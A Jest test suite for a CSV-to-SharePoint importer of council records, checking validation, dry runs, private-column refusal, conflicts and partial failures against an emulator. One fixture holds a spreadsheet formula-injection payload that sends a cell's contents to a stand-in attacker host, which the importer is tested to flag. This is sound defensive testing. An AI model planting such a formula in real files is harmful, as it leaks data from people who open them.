/**
 * @jest-environment node
 */
/**
 * The importer against the emulator: a good set of files across lists (lookups to items added in
 * the same run), re-runs that change nothing, a changed value updated alone, a bad file with each
 * problem at its row and column and nothing written, a dry run, an ETag conflict reported for its
 * row, and an import stopped mid-way that says which rows were written and which were not.
 */
import { readFileSync, writeFileSync } from 'fs';
import { generateSampleCouncil } from '../../../tools/sample-council/generateSampleCouncil';
import { runImport, IImportProgress, IImportResult } from '../../../tools/import/runImport';
import { writeOutcomesCsv } from '../../../tools/import/importOutcomes';
import type { ListKey } from '../../../src/schema';
import type { ISiteData, IStoredItem } from '../../../tools/emulator/siteData';
import { IRunningEmulator, startSampleEmulator, userWithRole } from '../emulator/emulatorKit';
import { CsvFolder, editorEmail, editorSp } from './importKit';
import { connectToSite } from '../../../tools/import/connectToSite';
import type { Transport } from '../../../src/data/behaviours/RetryThrottled';

const data: ISiteData = generateSampleCouncil({ seed: 2026, officers: 200 });
let emulator: IRunningEmulator;
const folder = new CsvFolder();

beforeAll(async () => {
  emulator = await startSampleEmulator({ data });
});

afterAll(async () => {
  await emulator.close();
  folder.remove();
});

function run(
  files: Partial<Record<ListKey, string>>,
  options: { dryRun?: boolean; skipInvalid?: boolean; batchSize?: number; onProgress?: (progress: IImportProgress) => void } = {}
): Promise<IImportResult> {
  return runImport({ sp: editorSp(emulator, data), files, ...options });
}

function findItem(list: ListKey, column: string, value: unknown): IStoredItem {
  const item = emulator.store.items(list).find((candidate) => candidate.fields[column] === value);
  if (!item) throw new Error(`No ${list} item with ${column} = ${String(value)}`);
  return item;
}

function counts(): Record<string, number> {
  return Object.fromEntries((['Wards', 'Parties', 'Members', 'Committees', 'CommitteeMemberships', 'Services', 'Officers'] as const).map((key) => [key, emulator.store.items(key).length]));
}

const existingWard = data.lists.Wards[0].fields;
const existingMember = data.lists.Members[0].fields;

describe('a good set of files', () => {
  let files: Partial<Record<ListKey, string>>;

  beforeAll(() => {
    files = {
      Wards: folder.write('wards.csv', [
        ['Ward name', 'GSS code', 'District or area'],
        ['Harbourside', 'E05990001', 'Coastal Borough'],
        [String(existingWard.Title), String(existingWard.WardCode), String(existingWard.District)]
      ]),
      Parties: folder.write('parties.csv', [
        ['Name', 'Short name', 'Colour', 'Party or group'],
        ['Harbour Independents', 'HI', '#12ab34', 'political group']
      ]),
      Members: folder.write('members.csv', [
        ['Display name', 'First name', 'surname', 'Email', 'Ward', 'Political party', 'Preferred way to be contacted', 'Term of office starts', 'Current member', 'Additional responsibilities', 'Register of interests', 'Skills and expertise'],
        ['Cllr Ada Quay', 'Ada', 'Quay', 'ada.quay@council.example', 'E05990001', 'hi', 'phone', '05/05/2025', 'Yes', 'Armed Forces Champion; climate change champion', 'https://www.council.example/ada', 'Boats\nHarbours'],
        ['Cllr Ben Wharf', 'Ben', 'Wharf', 'ben.wharf@council.example', 'Harbourside', 'Harbour Independents', '', '2025-01-06', 'no', '', '', '']
      ]),
      Committees: folder.write('committees.csv', [
        ['Name', 'Type', 'Active'],
        ['Harbour Board', 'Board', 'Y']
      ]),
      CommitteeMemberships: folder.write('memberships.csv', [
        ['Member', 'Committee', 'Role', 'Start date'],
        ['ADA.QUAY@council.example', 'Harbour Board', 'Chair', '20/05/2025'],
        ['ben.wharf@council.example', 'Harbour Board', '', '20/05/2025'],
        [String(existingMember.Email), 'Harbour Board', 'Vice-Chair', '20/05/2025']
      ])
    };
  });

  it('adds every new row, with lookups to items added earlier in the same run, and leaves an identical existing row alone', async () => {
    const before = counts();
    const result = await run(files);
    expect(result.problems).toEqual([]);
    expect(result.status).toBe('complete');
    expect(result.outcomes.map((row) => `${row.list} ${row.rowNumber} ${row.outcome}`)).toEqual([
      'Wards 2 added', 'Wards 3 unchanged', 'Parties 2 added', 'Members 2 added', 'Members 3 added', 'Committees 2 added',
      'CommitteeMemberships 2 added', 'CommitteeMemberships 3 added', 'CommitteeMemberships 4 added'
    ]);
    expect(counts()).toEqual({ ...before, Wards: before.Wards + 1, Parties: before.Parties + 1, Members: before.Members + 2, Committees: before.Committees + 1, CommitteeMemberships: before.CommitteeMemberships + 3 });

    const ward = findItem('Wards', 'WardCode', 'E05990001');
    const party = findItem('Parties', 'Title', 'Harbour Independents');
    expect(party.fields).toMatchObject({ ShortName: 'HI', Colour: '#12ab34', PartyKind: 'Political group' });
    const ada = findItem('Members', 'Email', 'ada.quay@council.example');
    expect(ada.fields).toMatchObject({
      Title: 'Cllr Ada Quay',
      Surname: 'Quay',
      Ward: ward.Id,
      Party: party.Id,
      PreferredContact: 'Phone',
      // 5 May 2025 is in BST: UK midnight is 23:00 UTC the day before, as SharePoint stores it.
      TermStart: '2025-05-04T23:00:00.000Z',
      IsCurrent: true,
      AdditionalRoles: ['Armed Forces Champion', 'Climate Change Champion'],
      RegisterOfInterestsUrl: { Url: 'https://www.council.example/ada', Description: 'https://www.council.example/ada' },
      Skills: 'Boats\nHarbours'
    });
    const ben = findItem('Members', 'Email', 'ben.wharf@council.example');
    expect(ben.fields).toMatchObject({ Ward: ward.Id, IsCurrent: false, PreferredContact: 'Email', TermStart: '2025-01-06T00:00:00.000Z' });
    const board = findItem('Committees', 'Title', 'Harbour Board');
    const seats = emulator.store.items('CommitteeMemberships').filter((item) => item.fields.Committee === board.Id);
    expect(seats.map((seat) => [seat.fields.Member, seat.fields.MembershipRole])).toEqual([
      [ada.Id, 'Chair'],
      [ben.Id, 'Member'],
      [data.lists.Members[0].Id, 'Vice-Chair']
    ]);
  });

  it('changes nothing when the same files are imported again: every row unchanged, no write sent', async () => {
    const before = counts();
    const batches = emulator.stats().batchRequests;
    const result = await run(files);
    expect(result.status).toBe('complete');
    expect(result.outcomes.every((row) => row.outcome === 'unchanged')).toBe(true);
    expect(result.outcomes).toHaveLength(9);
    expect(counts()).toEqual(before);
    expect(emulator.stats().batchRequests).toBe(batches);
  });

  it('updates only the column that changed, with the item\'s ETag', async () => {
    const ada = findItem('Members', 'Email', 'ada.quay@council.example');
    const changed = readFileSync(files.Members as string, 'utf8').replace('Boats\nHarbours', 'Boats\nHarbours\nFerries');
    const path = folder.file('members-changed.csv');
    writeFileSync(path, changed);
    const result = await run({ Members: path });
    expect(result.outcomes.map((row) => [row.rowNumber, row.outcome, row.detail])).toEqual([
      [2, 'updated', 'Skills and expertise'],
      [3, 'unchanged', '']
    ]);
    const after = findItem('Members', 'Email', 'ada.quay@council.example');
    expect(after.version).toBe(ada.version + 1);
    expect(after.fields.Skills).toBe('Boats\nHarbours\nFerries');
  });

  it('dry run: reports what would change and writes nothing', async () => {
    const before = counts();
    const batches = emulator.stats().batchRequests;
    const path = folder.write('committees-dry.csv', [
      ['Name', 'Type', 'Active'],
      ['Harbour Board', 'Panel', 'Y'],
      ['Lighthouse Working Party', 'Working party', 'Y']
    ]);
    const result = await run({ Committees: path }, { dryRun: true });
    expect(result.status).toBe('dry run');
    expect(result.outcomes.map((row) => [row.rowNumber, row.outcome, row.detail])).toEqual([
      [2, 'would update', 'Type'],
      [3, 'would add', 'Name, Type, Active']
    ]);
    expect(counts()).toEqual(before);
    expect(emulator.stats().batchRequests).toBe(batches);
    expect(findItem('Committees', 'Title', 'Harbour Board').fields.CommitteeType).toBe('Board');
  });
});

describe('a file with problems', () => {
  it('reports each problem with its row and column and writes nothing at all', async () => {
    const before = counts();
    const batches = emulator.stats().batchRequests;
    const path = folder.write('members-bad.csv', [
      ['Display name', 'Surname', 'Email', 'Ward', 'Preferred way to be contacted', 'Term of office starts', 'Shoe size'],
      ['Cllr One', 'One', 'one at council.example', String(existingWard.WardCode), 'Email', '', '9'],
      ['Cllr Two', 'Two', 'two@council.example', 'Atlantis', 'Email', '', ''],
      ['Cllr Three', 'Three', 'three@council.example', String(existingWard.WardCode), 'Carrier pigeon', '', ''],
      ['Cllr Four', 'Four', 'four@council.example', String(existingWard.WardCode), 'Email', '31/02/2025', ''],
      ['Cllr Five', 'Five', 'five@council.example', String(existingWard.WardCode), 'Email', '', ''],
      ['Cllr Five again', 'Five', 'Five@Council.example', String(existingWard.WardCode), 'Email', '', ''],
      ['Cllr Seven', '', 'seven@council.example', String(existingWard.WardCode), 'Email', '', ''],
      ['Cllr Eight', 'Eight', '', String(existingWard.WardCode), 'Email', '', ''],
      ['Cllr Nine', 'Nine', 'nine@council.example', String(existingWard.WardCode), 'Email', '', '']
    ]);
    const result = await run({ Members: path });
    expect(result.status).toBe('invalid');
    expect(result.problems.map((problem) => [problem.file, problem.rowNumber, problem.column])).toEqual([
      ['members-bad.csv', 1, 'Shoe size'],
      ['members-bad.csv', 2, 'Email'],
      ['members-bad.csv', 3, 'Ward'],
      ['members-bad.csv', 4, 'Preferred way to be contacted'],
      ['members-bad.csv', 5, 'Term of office starts'],
      ['members-bad.csv', 7, 'Email'],
      ['members-bad.csv', 8, 'Surname'],
      ['members-bad.csv', 9, 'Email']
    ]);
    const messages = result.problems.map((problem) => problem.message);
    expect(messages[0]).toMatch(/is not a column of the Members list/);
    expect(messages[1]).toMatch(/email address/);
    expect(messages[2]).toBe("no Wards item has the GSS code or Ward name 'Atlantis'");
    expect(messages[3]).toMatch(/'Carrier pigeon' is not one of the choices: 'Email', 'Phone', 'Teams', 'In person'/);
    expect(messages[4]).toMatch(/'31\/02\/2025' is not a date/);
    expect(messages[5]).toMatch(/repeats the key of row 6/);
    expect(messages[6]).toMatch(/Surname is required/);
    expect(messages[7]).toMatch(/is blank; the importer matches items by it/);
    expect(result.outcomes.filter((row) => row.outcome === 'not written').map((row) => row.rowNumber)).toEqual([6, 10]);
    expect(counts()).toEqual(before);
    expect(emulator.stats().batchRequests).toBe(batches);
  });
});

describe('cells that start like a spreadsheet formula', () => {
  it('are imported as text, with a warning for each row and column (a spreadsheet opening an export would run them)', async () => {
    const path = folder.write('services-formulas.csv', [
      ['Service code', 'Service', 'Directorate'],
      ['FORMULA-1', '=HYPERLINK("http://evil.invalid/?"&A1,"Click")', 'Place'],
      ['FORMULA-2', 'Harbour', '@SUM(A1)'],
      ['FORMULA-3', 'Lighthouses', 'Place']
    ]);
    const result = await run({ Services: path }, { dryRun: true });
    expect(result.status).toBe('dry run');
    expect(result.outcomes.map((row) => row.outcome)).toEqual(['would add', 'would add', 'would add']);
    expect(result.warnings).toEqual([
      { file: 'services-formulas.csv', rowNumber: 2, column: 'Service', message: expect.stringMatching(/starts with "=".*formula/) },
      { file: 'services-formulas.csv', rowNumber: 3, column: 'Directorate', message: expect.stringMatching(/starts with "@".*formula/) }
    ]);
    expect(result.problems).toEqual([]);
  });
});

describe('a file with a column that looks like a private detail', () => {
  test.each([{}, { skipInvalid: true }, { dryRun: true }])('is refused before SharePoint is asked anything (%p)', async (options) => {
    const before = counts();
    const requests = emulator.stats().apiRequests;
    const members = folder.write('members-private.csv', [
      ['Display name', 'Surname', 'Email', 'Ward', 'Home address', 'Personal mobile', 'DOB'],
      ['Cllr Private', 'Private', 'private@council.example', String(existingWard.WardCode), '1 Secret Lane', '07700 900123', '01/01/1970']
    ]);
    const committees = folder.write('committees-fine.csv', [
      ['Name', 'Type', 'Active'],
      ['Private Detail Panel', 'Panel', 'Y']
    ]);
    const result = await run({ Members: members, Committees: committees }, options);
    expect(result.status).toBe('invalid');
    expect(result.problems.map((problem) => [problem.file, problem.rowNumber, problem.column, problem.message.split(',')[0]])).toEqual([
      ['members-private.csv', 1, 'Home address', 'looks like a home address'],
      ['members-private.csv', 1, 'Personal mobile', 'looks like a personal phone number'],
      ['members-private.csv', 1, 'DOB', 'looks like a date of birth']
    ]);
    expect(result.problems[0].message).toMatch(/everyone who can read the hub's site can read its lists.*Remove this column/);
    expect(result.outcomes.map((row) => [row.file, row.outcome])).toEqual([
      ['members-private.csv', 'not written'],
      ['committees-fine.csv', 'not written']
    ]);
    expect(emulator.stats().apiRequests).toBe(requests);
    expect(counts()).toEqual(before);
  });
});

describe('person columns', () => {
  it('sets an account by its email when the person is a user of the site, and reports one who is not', async () => {
    const officer = data.lists.Officers.find((item) => item.fields.OfficerAccount === null && typeof item.fields.Email === 'string');
    const user = data.users.find((candidate) => candidate.role === 'reader' && !data.lists.Officers.some((item) => item.fields.OfficerAccount === candidate.id));
    if (!officer || !user) throw new Error('The sample council has no officer without an account, or no spare user.');
    const path = folder.write('officers-accounts.csv', [
      ['Email', 'Microsoft 365 account'],
      [String(officer.fields.Email), user.email.toUpperCase()],
      ['nobody.new@council.example', 'not.on.the.site@council.example']
    ]);
    const invalid = await run({ Officers: path });
    expect(invalid.problems.map((problem) => [problem.rowNumber, problem.column, problem.message])).toEqual([
      [3, 'Microsoft 365 account', "'not.on.the.site@council.example' is not a user of the site (they must sign in to it once, or be given access, first)"],
      [3, '', 'Name is required but the file has no such column']
    ]);
    const result = await runImport({ sp: editorSp(emulator, data), files: { Officers: path }, skipInvalid: true });
    expect(result.outcomes.map((row) => [row.rowNumber, row.outcome, row.detail.slice(0, 21)])).toEqual([
      [2, 'updated', 'Microsoft 365 account'],
      [3, 'invalid', 'Microsoft 365 account']
    ]);
    expect(emulator.store.item('Officers', officer.Id)?.fields.OfficerAccount).toBe(user.id);
    expect((await run({ Officers: folder.write('officers-account-again.csv', [['Email', 'Microsoft 365 account'], [String(officer.fields.Email), user.email]]) })).outcomes[0].outcome).toBe('unchanged');
  });
});

describe('conflicts and failures while writing', () => {
  const officers = data.lists.Officers.filter((item) => typeof item.fields.Email === 'string').slice(0, 3);

  it('reports an item someone else changed after it was read (412) as failed for its row, and keeps their edit', async () => {
    const path = folder.write('officers-conflict.csv', [
      ['Name', 'Email', 'Job title'],
      ...officers.map((item) => [String(item.fields.Title), String(item.fields.Email), 'Imported title'])
    ]);
    const owner = userWithRole(data, 'owner').id;
    const result = await run({ Officers: path }, {
      onProgress: (progress) => {
        if (progress.phase === 'writing' && progress.done === 0) {
          emulator.store.update('Officers', officers[1].Id, { fields: { JobTitle: 'Edited in SharePoint meanwhile' } }, owner);
        }
      }
    });
    expect(result.status).toBe('incomplete');
    expect(result.outcomes.map((row) => row.outcome)).toEqual(['updated', 'failed', 'updated']);
    expect(result.outcomes[1].detail).toMatch(/changed in SharePoint by someone else since it was read \(HTTP 412\); not overwritten/);
    expect(emulator.store.item('Officers', officers[1].Id)?.fields.JobTitle).toBe('Edited in SharePoint meanwhile');
    expect(emulator.store.item('Officers', officers[0].Id)?.fields.JobTitle).toBe('Imported title');
  });

  it('stopped mid-way: says row by row what was written, what failed and what was not sent', async () => {
    const service = data.lists.Services[0].fields.ServiceCode;
    const rows = Array.from({ length: 12 }, (_, index) => [`Officer ${index}`, `midway.${index}@council.example`, String(service)]);
    const path = folder.write('officers-midway.csv', [['Name', 'Email', 'Service'], ...rows]);
    const before = counts();
    const result = await run({ Officers: path }, {
      batchSize: 5,
      onProgress: (progress) => {
        // SharePoint starts refusing everything (throttled past every retry) after the first batch.
        if (progress.phase === 'writing' && progress.done === 5) emulator.setFaults({ throttleRate: 1, retryAfterSeconds: 0 });
      }
    });
    emulator.setFaults({ throttleRate: 0 });
    expect(result.status).toBe('incomplete');
    expect(result.outcomes.map((row) => row.outcome)).toEqual([...Array(5).fill('added'), ...Array(5).fill('failed'), 'not written', 'not written']);
    expect(result.outcomes[5].detail).toMatch(/throttled/);
    expect(result.outcomes[10].detail).toMatch(/not sent: the import stopped after an earlier failure/);
    expect(counts().Officers).toBe(before.Officers + 5);
    const written = emulator.store.items('Officers').filter((item) => String(item.fields.Email).startsWith('midway.')).map((item) => item.fields.Email);
    expect(written).toEqual(result.outcomes.filter((row) => row.outcome === 'added').map((row) => row.key));

    const report = folder.file('midway-results.csv');
    await writeOutcomesCsv(report, result.outcomes);
    const lines = readFileSync(report, 'utf8').trim().split(/\r\n/);
    expect(lines[0]).toBe('List,File,Row,Key,Outcome,Item id,Detail');
    expect(lines).toHaveLength(13);
    expect(lines[1]).toMatch(/^Officers,officers-midway\.csv,2,midway\.0@council\.example,added,\d+,/);
    expect(lines[12]).toMatch(/^Officers,officers-midway\.csv,13,midway\.11@council\.example,not written,,/);

    // Running the same file again writes only what is missing.
    const again = await run({ Officers: path });
    expect(again.outcomes.map((row) => row.outcome)).toEqual([...Array(5).fill('unchanged'), ...Array(7).fill('added')]);
    expect(counts().Officers).toBe(before.Officers + 12);
  });

  it('a write applied but answered 504 is sent once, reported unknown (not failed), and a re-run is safe', async () => {
    const path = folder.write('officers-lost-answer.csv', [['Name', 'Email', 'Service'], ['Late Answer', 'late.answer@council.example', String(data.lists.Services[0].fields.ServiceCode)]]);
    const before = counts();
    // A gateway that lets each $batch reach SharePoint (which applies it), then times out: 504.
    const applyThen504: Transport = async (url, init) => {
      const answer = await fetch(url.toString(), init);
      if (!url.pathname.endsWith('/$batch')) return answer;
      await answer.arrayBuffer();
      return new Response('', { status: 504, statusText: 'Gateway Timeout' });
    };
    const sp = connectToSite(emulator.siteUrl, { kind: 'emulator', user: editorEmail(data) }, { transport: applyThen504, baseDelayMs: 1 });
    const result = await runImport({ sp, files: { Officers: path } });
    expect(counts().Officers).toBe(before.Officers + 1);
    expect(result.outcomes.map((row) => row.outcome)).toEqual(['unknown']);
    expect(result.outcomes[0].detail).toMatch(/HTTP 504/);
    expect(result.outcomes[0].detail).toMatch(/may or may not have been written.*import the same file again.*matched by their key/);

    const again = await run({ Officers: path });
    expect(again.outcomes.map((row) => row.outcome)).toEqual(['unchanged']);
    expect(counts().Officers).toBe(before.Officers + 1);
  });

  it('a list whose only batch fails as a whole stops the lists after it', async () => {
    const services = folder.write('services-stop.csv', [['Service code', 'Service', 'Directorate'], ['STOP-1', 'Lighthouses', 'Place']]);
    const officersPath = folder.write('officers-stop.csv', [['Name', 'Email', 'Service'], ['Keeper', 'keeper@council.example', String(data.lists.Services[0].fields.ServiceCode)]]);
    const before = counts();
    const result = await run({ Services: services, Officers: officersPath }, {
      onProgress: (progress) => {
        if (progress.phase === 'writing' && progress.list === 'Services' && progress.done === 0) emulator.setFaults({ throttleRate: 1, retryAfterSeconds: 0 });
      }
    });
    emulator.setFaults({ throttleRate: 0 });
    expect(result.status).toBe('incomplete');
    expect(result.outcomes.map((row) => [row.list, row.outcome])).toEqual([['Services', 'failed'], ['Officers', 'not written']]);
    expect(result.outcomes[1].detail).toMatch(/^not sent: the import stopped when writing to Services failed \(throttled/);
    expect(counts()).toEqual(before);
  });
});
